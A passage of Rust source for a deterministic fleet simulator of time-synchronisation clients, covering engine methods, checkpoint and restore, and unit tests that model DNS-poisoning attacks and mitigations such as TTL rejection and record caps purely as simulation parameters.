    pub fn events(&self) -> u64 {
        self.shards.iter().map(|s| s.events).sum()
    }

    /// Shards the fleet is partitioned into.
    pub fn shard_count(&self) -> usize {
        self.shards.len()
    }

    /// The resolved per-tier parameters, in tier order (one implicit
    /// Chronos tier for homogeneous fleets).
    pub fn tier_params(&self) -> &[TierParams] {
        &self.tiers
    }

    /// Changes the intra-fleet worker count without touching simulation
    /// state — `threads` is a pure wall-clock knob (results are
    /// byte-identical for every value), so it may change at any time,
    /// even mid-run. This is the hook pooled reuse needs:
    /// [`FleetConfig::structural_fingerprint`] deliberately ignores
    /// `threads`, so a reused fleet may be serving a config whose worker
    /// count differs from the one it was built with.
    pub fn set_threads(&mut self, threads: usize) {
        self.config.threads = threads;
    }

    /// Rewinds the fleet to time zero under a new seed, reusing every
    /// allocation. After `reset`, running is byte-identical to a fresh
    /// [`Fleet::new`] with the same config and seed.
    pub fn reset(&mut self, seed: u64) {
        self.config.seed = seed;
        self.rebuild();
    }

    /// Swaps in a different configuration, reusing allocations where the
    /// shard layout matches (the pooling hook: same-shape configs differ
    /// only in seed, so columns are always reusable there).
    pub fn reconfigure(&mut self, config: FleetConfig) {
        config.validate();
        self.config = config;
        self.rebuild();
    }

    /// The single sizing-and-reseeding path underneath `new`, `reset` and
    /// `reconfigure`: resolves tiers and assignment, derives the resolver
    /// set from the seed, lays the clients out into shards, rebuilds each
    /// (one shared code path, so shard-local construction cannot drift
    /// from any caller), and precomputes the per-resolver timelines for
    /// shared-cache mode.
    fn rebuild(&mut self) {
        self.tiers = self.config.effective_tiers();
        self.assignment = TierAssignment::new(&self.config.tiers);
        self.resolvers = (0..self.config.resolvers)
            .map(|r| ResolverModel::for_resolver(&self.config, r))
            .collect();
        let n = self.config.clients;
        let size = self.config.shard_size;
        let shard_count = n.div_ceil(size);
        self.shards.truncate(shard_count);
        while self.shards.len() < shard_count {
            self.shards.push(Shard::empty());
        }
        for (s, shard) in self.shards.iter_mut().enumerate() {
            let base = s * size;
            let len = size.min(n - base);
            shard.rebuild(
                &self.config,
                &self.assignment,
                self.config.first_client_id + base as u64,
                len,
            );
        }
        self.now_ns = 0;
        self.last_slice = None;
        let prepass_start = self.metrics.as_ref().map(|_| std::time::Instant::now());
        self.timelines = if self.config.shared_cache {
            // The deterministic cache pre-pass: every pool-query time is
            // static, so each resolver's whole answer timeline resolves
            // before any client steps.
            let mut schedules: Vec<Vec<QuerySchedule>> = vec![Vec::new(); self.config.resolvers];
            for g in 0..n as u64 {
                let global = self.config.first_client_id + g;
                let (start_ns, _, _) = client_boot(&self.config, global);
                let tier_index = self.assignment.tier_of(global) as usize;
                let tier = &self.tiers[tier_index];
                let r = resolver_of(self.config.seed, global, self.config.resolvers);
                match tier.kind {
                    ClientKind::Chronos => schedules[r as usize].push(QuerySchedule {
                        start_ns,
                        interval_ns: tier.chronos.pool.query_interval.as_nanos(),
                        rounds: tier.chronos.pool.queries as u64,
                    }),
                    ClientKind::PlainNtp
                        if self.config.faults.dns_can_fail(tier_index, r as usize) =>
                    {
                        // Boot resolution can fail, so the client *may*
                        // retry on its backoff schedule. The pre-pass
                        // cannot know which attempts fail, so the cache
                        // timeline is defined as the replay of the full
                        // phantom attempt multiset (computed with the same
                        // jitter recurrence the engine uses, so every real
                        // query time is one of these). Phantom attempts
                        // after a success may advance batch rotation — a
                        // documented model semantic, not an approximation.
                        let retry = &self.config.faults.retry;
                        let mut at = start_ns;
                        for attempt in 0..retry.max_attempts {
                            schedules[r as usize].push(QuerySchedule {
                                start_ns: at,
                                interval_ns: 0,
                                rounds: 1,
                            });
                            let unit = fault_f64(
                                self.config.seed,
                                global,
                                FaultLane::RetryJitter,
                                u64::from(attempt),
                                0,
                            );
                            at += retry.delay_ns(attempt, unit);
                        }
                    }
                    // Plain NTP resolves exactly once, at boot.
                    ClientKind::PlainNtp => schedules[r as usize].push(QuerySchedule {
                        start_ns,
                        interval_ns: 0,
                        rounds: 1,
                    }),
                    // NTS resolves its KE server name at boot and at
                    // every re-key boundary inside the horizon.
                    ClientKind::Nts => {
                        let rekey = tier.rekey_interval_ns;
                        let horizon = self.config.horizon.as_nanos();
                        if self.config.faults.dns_can_fail(tier_index, r as usize) {
                            // Each boundary may retry on backoff — the
                            // same phantom-attempt replay as plain NTP,
                            // with the jitter recurrence keyed
                            // `boundary · max_attempts + attempt`.
                            let retry = &self.config.faults.retry;
                            let ma = u64::from(retry.max_attempts.max(1));
                            let mut boundary = start_ns;
                            let mut k = 0u64;
                            while boundary <= horizon {
                                let mut at = boundary;
                                for attempt in 0..retry.max_attempts {
                                    schedules[r as usize].push(QuerySchedule {
                                        start_ns: at,
                                        interval_ns: 0,
                                        rounds: 1,
                                    });
                                    let unit = fault_f64(
                                        self.config.seed,
                                        global,
                                        FaultLane::RetryJitter,
                                        k * ma + u64::from(attempt),
                                        0,
                                    );
                                    at += retry.delay_ns(attempt, unit);
                                }
                                k += 1;
                                boundary = start_ns + k * rekey;
                            }
                        } else {
                            schedules[r as usize].push(QuerySchedule {
                                start_ns,
                                interval_ns: rekey,
                                rounds: 1 + (horizon.saturating_sub(start_ns)) / rekey,
                            });
                        }
                    }
                    // Roughtime resolves each of its M sources once at
                    // boot, through M distinct resolvers.
                    ClientKind::Roughtime => {
                        for j in 0..tier.sources {
                            let src = (r as usize + j) % self.config.resolvers;
                            schedules[src].push(QuerySchedule {
                                start_ns,
                                interval_ns: 0,
                                rounds: 1,
                            });
                        }
                    }
                }
            }
            self.resolvers
                .iter()
                .zip(&schedules)
                .map(|(model, schedule)| model.timeline(schedule))
                .collect()
        } else {
            Vec::new()
        };
        if let (Some(m), Some(start)) = (&self.metrics, prepass_start) {
            m.timeline_prepass.record(start.elapsed());
        }
    }

    /// Runs the fleet up to and including every event with a deadline at
    /// or before `until`, stepping shards on
    /// [`FleetConfig::effective_threads`] workers. Byte-identical for
    /// every thread count.
    ///
    /// # Panics
    ///
    /// Panics if `until` precedes the current time.
    pub fn run_until(&mut self, until: SimTime) {
        let target = until.as_nanos();
        assert!(target >= self.now_ns, "cannot run backwards");
        // Wall-clock throughput of this slice (for FleetProgress): one
        // Instant read per slice, regardless of instrumentation.
        let slice_start = std::time::Instant::now();
        let sim_ns = target - self.now_ns;
        let events_before: u64 = self.shards.iter().map(|s| s.events).sum();
        let config = &self.config;
        let tiers = &self.tiers[..];
        let obs = self.metrics.as_deref();
        let dns = if config.shared_cache {
            DnsView::Shared(&self.timelines)
        } else {
            DnsView::Independent(&self.resolvers)
        };
        let threads = config.effective_threads().min(self.shards.len()).max(1);
        if threads == 1 {
            for shard in &mut self.shards {
                shard.run_until(target, config, tiers, dns, obs);
            }
        } else {
            netsim::par::for_each_mut(&mut self.shards, threads, |shard, _| {
                shard.run_until(target, config, tiers, dns, obs)
            });
        }
        self.now_ns = target;
        let events: u64 = self.shards.iter().map(|s| s.events).sum();
        self.last_slice = Some((
            slice_start.elapsed().as_secs_f64(),
            events - events_before,
            sim_ns,
        ));
    }

    /// Convenience: runs for a duration.
    pub fn run_for(&mut self, d: SimDuration) {
        self.run_until(self.now() + d);
    }

    /// Runs the configured horizon and reports.
    pub fn run(&mut self) -> FleetReport {
        self.run_until(SimTime::ZERO + self.config.horizon);
        self.report()
    }

    /// Fraction of the fleet whose |clock error| exceeds the safety bound
    /// at `now`.
    pub fn shifted_fraction(&self, now: SimTime) -> f64 {
        let shifted: u64 = self
            .shards
            .iter()
            .map(|s| s.shifted_count(now, &self.config))
            .sum();
        shifted as f64 / self.config.clients as f64
    }

    /// Bytes of per-client column state — the struct-of-arrays entries
    /// across the shard slabs plus the timer wheel's intrusive per-timer
    /// columns. Excludes opt-in trajectory capture and the fixed per-shard
    /// machinery (wheel slot arrays, scratch buffers), which amortize to
    /// under 2 bytes/client at the default shard size.
    pub const fn per_client_footprint_bytes() -> usize {
        std::mem::size_of::<LocalClock>()               // clocks
            + std::mem::size_of::<Phase>()              // phase (also the event kind)
            + std::mem::size_of::<u8>()                 // tier
            + std::mem::size_of::<u16>()                // resolver
            + std::mem::size_of::<u32>()                // retries
            + std::mem::size_of::<u64>()                // last_update_ns (packed)
            + std::mem::size_of::<u64>()                // rng
            + std::mem::size_of::<CompactStats>()       // stats
            + std::mem::size_of::<CompactFaults>()      // faults
            + std::mem::size_of::<u16>()                // pool_rounds
            + std::mem::size_of::<u64>()                // benign_batches
            + std::mem::size_of::<u32>()                // malicious
            + std::mem::size_of::<u64>()                // deadline_ns
            + std::mem::size_of::<u64>()                // assoc_expiry_ns
            + std::mem::size_of::<u32>()                // assoc_sources
            + std::mem::size_of::<CompactSecure>()      // secure counters
            + TimerWheel::PER_TIMER_BYTES // wheel next + deadline_tick
    }

    fn locate(&self, i: usize) -> (&Shard, usize) {
        assert!(i < self.config.clients, "client {i} out of range");
        let s = i / self.config.shard_size;
        (&self.shards[s], i - s * self.config.shard_size)
    }

    /// One client's clock error at `now`, ns.
    pub fn client_offset_ns(&self, i: usize, now: SimTime) -> i64 {
        let (shard, local) = self.locate(i);
        shard.clocks[local].offset_from_true(now)
    }

    /// One client's activity counters.
    pub fn client_stats(&self, i: usize) -> ChronosStats {
        let (shard, local) = self.locate(i);
        shard.stats[local].widen()
    }

    /// One client's fault-injection counters (all zero when the fault
    /// plan is inert).
    pub fn client_faults(&self, i: usize) -> FaultCounters {
        let (shard, local) = self.locate(i);
        shard.faults[local].widen()
    }

    /// One client's secure-tier counters (all zero for Chronos and
    /// plain-NTP clients).
    pub fn client_secure(&self, i: usize) -> SecureCounters {
        let (shard, local) = self.locate(i);
        shard.secure[local].widen()
    }

    /// One NTS client's association-expiry instant (`None` while no
    /// association's keys are usable: pre-boot, or every handshake so far
    /// failed).
    pub fn client_association_expiry(&self, i: usize) -> Option<SimTime> {
        let (shard, local) = self.locate(i);
        let ns = shard.assoc_expiry_ns[local];
        (ns != 0).then(|| SimTime::from_nanos(ns))
    }

    /// One Roughtime client's source sets as `(resolved, captured)`
    /// bitmasks over its M boot-time source slots.
    pub fn client_sources(&self, i: usize) -> (u32, u32) {
        let (shard, local) = self.locate(i);
        let packed = shard.assoc_sources[local];
        (packed & 0xffff, packed >> 16)
    }

    /// One client's pool composition as `(benign, malicious)`.
    pub fn client_pool(&self, i: usize) -> (usize, usize) {
        let (shard, local) = self.locate(i);
        let tier = &self.tiers[shard.tier[local] as usize];
        (
            shard.benign_count(local, &self.config, tier),
            shard.malicious[local] as usize,
        )
    }

    /// One client's lifecycle phase.
    pub fn client_phase(&self, i: usize) -> Phase {
        let (shard, local) = self.locate(i);
        shard.phase[local]
    }

    /// One client's tier index (into [`Fleet::tier_params`]).
    pub fn client_tier(&self, i: usize) -> usize {
        let (shard, local) = self.locate(i);
        shard.tier[local] as usize
    }

    /// One client's kind (from its tier).
    pub fn client_kind(&self, i: usize) -> ClientKind {
        self.tiers[self.client_tier(i)].kind
    }

    /// The resolver id client `i` hashes onto.
    pub fn client_resolver(&self, i: usize) -> usize {
        let (shard, local) = self.locate(i);
        shard.resolver[local] as usize
    }

    /// One client's recorded offset trajectory.
    ///
    /// # Panics
    ///
    /// Panics if the fleet was not configured with `record_trajectories`.
    pub fn trace(&self, i: usize) -> &[(SimTime, i64)] {
        assert!(
            self.config.record_trajectories,
            "fleet was not recording trajectories"
        );
        let (shard, local) = self.locate(i);
        &shard.traces[local]
    }

    /// Builds the aggregate report at the current time by merging shard
    /// aggregates in shard order (fixed order keeps the P² merge — the
    /// one float-sensitive combine — bit-reproducible; everything else is
    /// integer arithmetic and merge-order-free).
    pub fn report(&self) -> FleetReport {
        let merge_start = self.metrics.as_ref().map(|_| std::time::Instant::now());
        let now = self.now();
        let t_count = self.tiers.len();
        let mut tier_clients = vec![0usize; t_count];
        let mut tier_totals = vec![ChronosStats::default(); t_count];
        let mut tier_poisoned = vec![0u64; t_count];
        let mut tier_faults = vec![FaultCounters::default(); t_count];
        let mut tier_secure = vec![SecureCounters::default(); t_count];
        let mut tier_synced = vec![0u64; t_count];
        let mut tier_final_shifted = vec![0u64; t_count];
        let mut histogram = OffsetHistogram::log_scale(HISTOGRAM_BINS_PER_DECADE);
        let mut quantiles = TRACKED_QUANTILES.map(P2Quantile::new);
        // Sample-major per-tier counts, stride `t_count`.
        let mut shifted_counts: Vec<u64> = Vec::new();
        for shard in &self.shards {
            for (i, s) in shard.stats.iter().enumerate() {
                let t = shard.tier[i] as usize;
                tier_clients[t] += 1;
                tier_totals[t].accumulate(&s.widen());
                tier_faults[t].accumulate(&shard.faults[i].widen());
                tier_secure[t].accumulate(&shard.secure[i].widen());
                if shard.malicious[i] > 0 {
                    tier_poisoned[t] += 1;
                }
                if shard.phase[i] != Phase::PoolGeneration {
                    tier_synced[t] += 1;
                }
            }
            shard.shifted_count_by_tier(now, &self.config, &mut tier_final_shifted);
            histogram.merge_from(&shard.histogram);
            for (q, sq) in quantiles.iter_mut().zip(&shard.quantiles) {
                q.merge_from(sq);
            }
            debug_assert!(
                shifted_counts.is_empty() || shifted_counts.len() == shard.shifted_counts.len(),
                "shards share one sample schedule"
            );
            if shifted_counts.len() < shard.shifted_counts.len() {
                shifted_counts.resize(shard.shifted_counts.len(), 0);
            }
            for (sum, c) in shifted_counts.iter_mut().zip(&shard.shifted_counts) {
                *sum += c;
            }
        }
        let sample_ns = self.config.sample_every.as_nanos();
        let clients = self.config.clients as f64;
        let samples = shifted_counts.len() / t_count.max(1);
        let sample_at = |k: usize| SimTime::from_nanos(k as u64 * sample_ns).as_secs_f64();
        let shifted: Vec<(f64, f64)> = (0..samples)
            .map(|k| {
                let count: u64 = shifted_counts[k * t_count..(k + 1) * t_count].iter().sum();
                (sample_at(k), count as f64 / clients)
            })
            .collect();
        let tiers: Vec<TierBreakdown> = self
            .tiers
            .iter()
            .enumerate()
            .map(|(t, params)| {
                let members = tier_clients[t].max(1) as f64;
                TierBreakdown {
                    label: params.label.clone(),
                    kind: params.kind,
                    clients: tier_clients[t],
                    shifted: (0..samples)
                        .map(|k| {
                            (
                                sample_at(k),
                                shifted_counts[k * t_count + t] as f64 / members,
                            )
                        })
                        .collect(),
                    final_shifted_fraction: tier_final_shifted[t] as f64 / members,
                    poisoned_clients: tier_poisoned[t],
                    synced_clients: tier_synced[t],
                    totals: tier_totals[t],
                    faults: tier_faults[t],
                    secure: tier_secure[t],
                }
            })
            .collect();
        let mut totals = ChronosStats::default();
        for t in &tier_totals {
            totals.accumulate(t);
        }
        let mut faults = FaultCounters::default();
        for t in &tier_faults {
            faults.accumulate(t);
        }
        let mut secure = SecureCounters::default();
        for t in &tier_secure {
            secure.accumulate(t);
        }
        let report = FleetReport {
            clients: self.config.clients,
            end: now,
            shifted,
            final_shifted_fraction: tier_final_shifted.iter().sum::<u64>() as f64 / clients,
            poisoned_clients: tier_poisoned.iter().sum(),
            synced_clients: tier_synced.iter().sum(),
            totals,
            quantiles: quantiles.iter().map(|q| (q.p(), q.estimate())).collect(),
            histogram,
            events: self.events(),
            faults,
            secure,
            tiers,
        };
        if let (Some(m), Some(start)) = (&self.metrics, merge_start) {
            m.report_merge.record(start.elapsed());
        }
        report
    }

    /// A cheap position/health snapshot for live observability: O(clients)
    /// in the phase and clock columns, no aggregate merging. Valid at any
    /// [`Fleet::run_until`] boundary.
    pub fn progress(&self) -> FleetProgress {
        let now = self.now();
        let synced_clients = self
            .shards
            .iter()
            .map(|s| {
                s.phase
                    .iter()
                    .filter(|&&p| p != Phase::PoolGeneration)
                    .count() as u64
            })
            .sum();
        FleetProgress {
            now,
            horizon: self.config.horizon,
            clients: self.config.clients,
            events: self.events(),
            synced_clients,
            shifted_fraction: self.shifted_fraction(now),
            throughput: self.last_slice.map(|(wall_secs, events, sim_ns)| {
                let wall = wall_secs.max(f64::MIN_POSITIVE);
                FleetThroughput {
                    wall_secs,
                    events_per_sec: events as f64 / wall,
                    sim_per_wall: sim_ns as f64 / 1e9 / wall,
                }
            }),
        }
    }

    /// Serializes the fleet's complete simulation state — configuration,
    /// every client column, per-shard timer-wheel clocks, streaming
    /// aggregates and sampling cursors — into the versioned binary format
    /// of [`crate::checkpoint`]. A fleet restored from this snapshot
    /// ([`Fleet::restore`]) continues **byte-identically** to one that
    /// never stopped, for every thread count (the checkpoint/resume
    /// proptest pins this).
    ///
    /// Call at a [`Fleet::run_until`] boundary (any time outside a
    /// `run_until` call — the engine never exposes mid-step state).
    ///
    /// # Examples
    ///
    /// ```
    /// use fleet::config::FleetConfig;
    /// use fleet::engine::Fleet;
    /// use netsim::time::SimTime;
    ///
    /// let config = FleetConfig {
    ///     clients: 32,
    ///     horizon: netsim::time::SimDuration::from_secs(2_000),
    ///     ..FleetConfig::default()
    /// };
    /// // Run halfway, snapshot, and finish on the restored copy.
    /// let mut fleet = Fleet::new(config.clone());
    /// fleet.run_until(SimTime::from_secs(1_000));
    /// let snapshot = fleet.checkpoint();
    ///
    /// let mut resumed = Fleet::restore(&snapshot).expect("snapshot decodes");
    /// assert_eq!(resumed.now(), SimTime::from_secs(1_000));
    /// resumed.run_until(SimTime::from_secs(2_000));
    ///
    /// // The uninterrupted run reports byte-identically.
    /// fleet.run_until(SimTime::from_secs(2_000));
    /// assert_eq!(resumed.report(), fleet.report());
    /// ```
    pub fn checkpoint(&self) -> Vec<u8> {
        let encode_start = self.metrics.as_ref().map(|_| std::time::Instant::now());
        let mut w = Writer::new();
        w.bytes(&checkpoint::MAGIC);
        w.u32(checkpoint::VERSION);
        checkpoint::put_config(&mut w, &self.config);
        w.u64(self.now_ns);
        w.len(self.shards.len());
        for shard in &self.shards {
            shard.encode(&mut w);
        }
        let bytes = w.finish();
        if let (Some(m), Some(start)) = (&self.metrics, encode_start) {
            m.checkpoint_encode.record(start.elapsed());
            m.checkpoint_bytes.add(bytes.len() as u64);
        }
        bytes
    }

    /// Rebuilds a fleet from a [`Fleet::checkpoint`] snapshot. Structural
    /// state (tier parameters, resolver models, cache timelines) is
    /// re-derived from the embedded configuration through the same
    /// `rebuild` path a fresh fleet uses; the client columns, wheel
    /// clocks and aggregates are then overwritten with the snapshot.
    ///
    /// # Errors
    ///
    /// Returns a [`CheckpointError`] when the bytes are not a checkpoint,
    /// are from another format version, fail the checksum, or decode to
    /// an inconsistent structure.
    pub fn restore(bytes: &[u8]) -> Result<Fleet, CheckpointError> {
        Self::restore_with(bytes, None)
    }

    /// [`Fleet::restore`] with instrumentation attached up front, so the
    /// decode itself is timed (`fleet_stage_seconds{stage=
    /// "checkpoint_restore"}`). The handle ends up attached to the
    /// returned fleet exactly as if [`Fleet::set_metrics`] had been
    /// called after a plain restore.
    ///
    /// # Errors
    ///
    /// Same failure modes as [`Fleet::restore`].
    pub fn restore_with(
        bytes: &[u8],
        metrics: Option<std::sync::Arc<FleetMetrics>>,
    ) -> Result<Fleet, CheckpointError> {
        let restore_start = metrics.as_ref().map(|_| std::time::Instant::now());
        let mut r = Reader::verified(bytes)?;
        if r.take(4)? != checkpoint::MAGIC {
            return Err(CheckpointError::BadMagic);
        }
        let version = r.u32()?;
        if version != checkpoint::VERSION {
            return Err(CheckpointError::BadVersion(version));
        }
        let config = checkpoint::get_config(&mut r)?;
        let mut fleet = Fleet::new(config);
        let now_ns = r.u64()?;
        if r.len()? != fleet.shards.len() {
            return Err(CheckpointError::Corrupt("shard count mismatch"));
        }
        let Fleet {
            ref mut shards,
            ref config,
            ..
        } = fleet;
        for shard in shards.iter_mut() {
            shard.decode(&mut r, config)?;
        }
        fleet.now_ns = now_ns;
        if r.remaining() != 0 {
            return Err(CheckpointError::Corrupt("trailing bytes after shards"));
        }
        if let (Some(m), Some(start)) = (&metrics, restore_start) {
            m.checkpoint_restore.record(start.elapsed());
        }
        fleet.metrics = metrics;
        Ok(fleet)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cohort::CohortTier;
    use crate::config::{FaultPlan, FleetAttack, OutageWindow, ServeStalePolicy, TierFaults};

    fn small_config() -> FleetConfig {
        FleetConfig {
            seed: 7,
            clients: 64,
            universe: 96,
            chronos: chronos::config::ChronosConfig {
                sample_size: 9,
                trim: 3,
                poll_interval: SimDuration::from_secs(64),
                pool: chronos::config::PoolGenConfig {
                    queries: 6,
                    query_interval: SimDuration::from_secs(200),
                    ..chronos::config::PoolGenConfig::default()
                },
                ..chronos::config::ChronosConfig::default()
            },
            stagger: SimDuration::from_secs(100),
            sample_every: SimDuration::from_secs(120),
            horizon: SimDuration::from_secs(2_400),
            ..FleetConfig::default()
        }
    }

    #[test]
    fn benign_fleet_stays_synced() {
        let mut fleet = Fleet::new(small_config());
        let report = fleet.run();
        assert_eq!(report.clients, 64);
        assert_eq!(report.synced_clients, 64, "everyone finished pool gen");
        assert_eq!(report.poisoned_clients, 0);
        assert_eq!(report.totals.pool_queries, 64 * 6);
        assert!(
            report.totals.accepts >= 64,
            "each client accepted at least once"
        );
        assert_eq!(
            report.final_shifted_fraction, 0.0,
            "no attack, nobody shifted"
        );
        assert!(report.shifted.iter().all(|&(_, f)| f == 0.0));
        assert!(!report.shifted.is_empty());
        assert!(report.events > 64 * 6);
        // The homogeneous breakdown is one implicit Chronos tier whose
        // numbers reproduce the fleet-wide fields.
        assert_eq!(report.tiers.len(), 1);
        let tier = &report.tiers[0];
        assert_eq!(tier.label, "chronos");
        assert_eq!(tier.kind, ClientKind::Chronos);
        assert_eq!(tier.clients, 64);
        assert_eq!(tier.totals, report.totals);
        assert_eq!(tier.shifted, report.shifted);
    }

    #[test]
    fn poisoning_during_generation_shifts_the_fleet() {
        let mut config = small_config();
        // Poison lands mid-generation: with 6 rounds x 200 s + 100 s
        // stagger, t = 300 s catches every client before round 3 of 6 —
        // >= 2/3 of each pool ends up malicious.
        config.attack = Some(FleetAttack::paper_default(
            SimTime::from_secs(300),
            SimDuration::from_millis(500),
        ));
        let mut fleet = Fleet::new(config);
        let report = fleet.run();
        assert_eq!(report.poisoned_clients, 64, "shared cache hits everyone");
        assert!(
            report.final_shifted_fraction > 0.9,
            "attacker majority drags (almost) the whole fleet: {}",
            report.final_shifted_fraction
        );
        // Poisoned clients are still *cold* at their first poll (pool
        // generation precedes syncing), so the unbounded cold-start
        // envelope accepts the shift directly — the paper's cold-client
        // path. The reject→panic path is exercised separately below.
        assert!(report.totals.accepts >= 64);
        // The series is monotone-ish: starts at 0, ends high.
        assert_eq!(report.shifted.first().unwrap().1, 0.0);
        assert!(report.shifted.last().unwrap().1 > 0.9);
        // Quantiles see the 500 ms shift.
        let p99 = report.quantiles.iter().find(|q| q.0 == 0.99).unwrap().1;
        assert!(p99 > 100_000_000.0, "p99 |offset| {p99} reflects the shift");
        assert!(report.histogram.fraction_at_or_above(100_000_000) > 0.1);
    }

    #[test]
    fn late_poisoning_misses_the_deadline() {
        let mut config = small_config();
        // After every client's round 4 of 6 (stagger 100 s + 4x200 s):
        // fewer than the winning share of rounds remain.
        config.attack = Some(FleetAttack::paper_default(
            SimTime::from_secs(1_000),
            SimDuration::from_millis(500),
        ));
        let mut fleet = Fleet::new(config);
        let report = fleet.run();
        // Every pool still picked up the poisoned rounds...
        assert_eq!(report.poisoned_clients, 64);
        // ...but 4 benign rounds of 4 addresses against 89 malicious is
        // still a 2/3 majority for the attacker with these compressed
        // numbers; what the deadline protects is pools with >= 45 benign
        // servers. Check composition arithmetic instead of the shift.
        let (benign, malicious) = fleet.client_pool(0);
        assert_eq!(malicious, 89);
        assert!(benign >= 4 * 4, "4 benign rounds landed before the poison");
    }

    #[test]
    fn disagreeing_universe_forces_rejects_and_panics() {
        // Benign servers scattered over ±200 ms against ω = 25 ms: every
        // mixed sample disagrees, so clients burn K retries and fall into
        // panic mode — the reject→panic machinery at fleet scale.
        let mut config = small_config();
        config.benign_offset_ms = 200;
        config.horizon = SimDuration::from_secs(2_000);
        let mut fleet = Fleet::new(config);
        let report = fleet.run();
        assert!(report.totals.rejects > 0, "ω rejected disagreeing rounds");
        assert!(report.totals.panics > 0, "K rejections forced panics");
        assert!(
            report.totals.panics * u64::from(fleet.config().chronos.max_retries)
                <= report.totals.rejects,
            "every panic costs K rejects"
        );
    }

    #[test]
    fn ttl_mitigation_blocks_the_poison_at_fleet_scale() {
        let mut config = small_config();
        config.chronos.pool.reject_ttl_above = Some(3_600);
        config.attack = Some(FleetAttack::paper_default(
            SimTime::from_secs(300),
            SimDuration::from_millis(500),
        ));
        let mut fleet = Fleet::new(config);
        let report = fleet.run();
        assert_eq!(
            report.poisoned_clients, 0,
            "day-long TTL rejected everywhere"
        );
        assert_eq!(report.final_shifted_fraction, 0.0);
    }

    #[test]
    fn record_cap_bounds_the_malicious_share() {
        let mut config = small_config();
        config.chronos.pool.max_records_per_response = Some(4);
        config.attack = Some(FleetAttack::paper_default(
            SimTime::from_secs(300),
            SimDuration::from_millis(500),
        ));
        let mut fleet = Fleet::new(config);
        fleet.run();
        let (_, malicious) = fleet.client_pool(0);
        assert_eq!(malicious, 4, "89-record blast capped to 4");
    }

    #[test]
    fn reset_reproduces_a_fresh_fleet() {
        let mut config = small_config();
        config.attack = Some(FleetAttack::paper_default(
            SimTime::from_secs(300),
            SimDuration::from_millis(500),
        ));
        config.clients = 16;
        config.record_trajectories = true;
        let mut fresh = Fleet::new(config.clone());
        let fresh_report = fresh.run();
        // Run the same fleet object at another seed, then reset back.
        let mut reused = Fleet::new(config);
        reused.run();
        reused.reset(99);
        reused.run();
        reused.reset(7);
        let reused_report = reused.run();
        assert_eq!(fresh_report, reused_report, "reset is byte-identical");
        for i in 0..16 {
            assert_eq!(fresh.trace(i), reused.trace(i), "client {i} trajectory");
        }
    }

    #[test]
    fn reconfigure_resizes_and_rebuilds() {
        let mut fleet = Fleet::new(small_config());
        fleet.run();
        let mut bigger = small_config();
        bigger.clients = 128;
        bigger.seed = 3;
        fleet.reconfigure(bigger.clone());
        let a = fleet.run();
        let b = Fleet::new(bigger).run();
        assert_eq!(a, b, "reconfigured fleet equals a fresh one");
        // Reconfiguring across shard layouts rebuilds the partition too.
        let mut sharded = small_config();
        sharded.clients = 40;
        sharded.shard_size = 16;
        fleet.reconfigure(sharded.clone());
        assert_eq!(fleet.shard_count(), 3, "40 clients / 16 per shard");
        let c = fleet.run();
        let d = Fleet::new(sharded).run();
        assert_eq!(c, d);
    }

    #[test]
    fn shifted_fraction_counts_against_the_bound() {
        let config = FleetConfig {
            clients: 4,
            stagger: SimDuration::ZERO,
            client_drift_ppm: 0.0,
            ..small_config()
        };
        let fleet = Fleet::new(config);
        assert_eq!(fleet.shifted_fraction(SimTime::ZERO), 0.0);
        assert_eq!(fleet.client_offset_ns(0, SimTime::ZERO), 0);
        assert_eq!(fleet.client_phase(0), Phase::PoolGeneration);
        assert_eq!(fleet.client_stats(0), ChronosStats::default());
        assert_eq!(fleet.client_tier(0), 0);
        assert_eq!(fleet.client_kind(0), ClientKind::Chronos);
        assert_eq!(fleet.client_resolver(0), 0, "R = 1: everyone on resolver 0");
    }

    /// The satellite footprint budget: per-client column state must sit
    /// comfortably below ~180 B, so a 10⁶-client fleet's columns fit in
    /// ~170 MB.
    #[test]
    fn per_client_footprint_is_under_budget() {
        let footprint = Fleet::per_client_footprint_bytes();
        assert!(
            footprint < 180,
            "per-client footprint grew to {footprint} B (budget: < 180 B)"
        );
        // Document the breakdown this asserts over: 40 B clock, 24 B
        // compact stats, 20 B compact fault counters, 8 B each for
        // last_update/rng/benign-bitmap/deadline, 12 B wheel columns, 3 B
        // tier + resolver (the cohort columns PR 5 added), small counters,
        // and the E18 secure-tier columns: 8 B association expiry, 4 B
        // source bitmasks, 12 B compact secure counters.
        assert_eq!(footprint, 166, "update the breakdown when columns change");
        // Trajectory capture is lazy: no per-client Vec headers unless
        // opted in.
        let fleet = Fleet::new(small_config());
        assert!(
            fleet.shards.iter().all(|s| s.traces.is_empty()),
            "traces must not be allocated when capture is off"
        );
        let mut recording = small_config();
        recording.record_trajectories = true;
        let fleet = Fleet::new(recording);
        assert!(fleet
            .shards
            .iter()
            .all(|s| s.traces.len() == s.clocks.len()));
    }

    /// Sharding is an internal decomposition: per-client outcomes and the
    /// counting aggregates must not depend on it (only the P² quantile
    /// *estimates* may differ across layouts, by construction).
    #[test]
    fn shard_layout_does_not_change_outcomes() {
        let mut config = small_config();
        config.attack = Some(FleetAttack::paper_default(
            SimTime::from_secs(300),
            SimDuration::from_millis(500),
        ));
        config.record_trajectories = true;
        let one_shard = Fleet::new(config.clone());
        let mut one_shard = one_shard;
        let coarse = one_shard.run();
        assert_eq!(one_shard.shard_count(), 1);
        config.shard_size = 10; // 64 clients -> 7 ragged shards
        let mut sharded = Fleet::new(config);
        let fine = sharded.run();
        assert_eq!(sharded.shard_count(), 7);
        assert_eq!(coarse.shifted, fine.shifted, "series is layout-free");
        assert_eq!(coarse.histogram, fine.histogram);
        assert_eq!(coarse.totals, fine.totals);
        assert_eq!(coarse.events, fine.events);
        assert_eq!(coarse.tiers, fine.tiers, "breakdown is layout-free too");
        for i in 0..64 {
            assert_eq!(one_shard.trace(i), sharded.trace(i), "client {i}");
            assert_eq!(one_shard.client_pool(i), sharded.client_pool(i));
        }
    }

    // --- cohort behaviour ---

    /// A 3:1 Chronos/plain mix under an attack landing *inside* the boot
    /// stagger: every Chronos pool is poisoned (24 opportunities), but
    /// only the plain clients that resolved after the poison landed are —
    /// the paper's 1-vs-24-opportunities contrast at population scale.
    #[test]
    fn mixed_fleet_separates_chronos_from_plain_ntp() {
        let mut config = small_config();
        config.tiers = vec![
            CohortTier::chronos("chronos", 3),
            CohortTier::plain_ntp("plain ntp", 1),
        ];
        // Attack at t = 50 s, boots staggered over 100 s: roughly half the
        // plain clients resolve before the poison lands.
        config.attack = Some(FleetAttack::paper_default(
            SimTime::from_secs(50),
            SimDuration::from_millis(500),
        ));
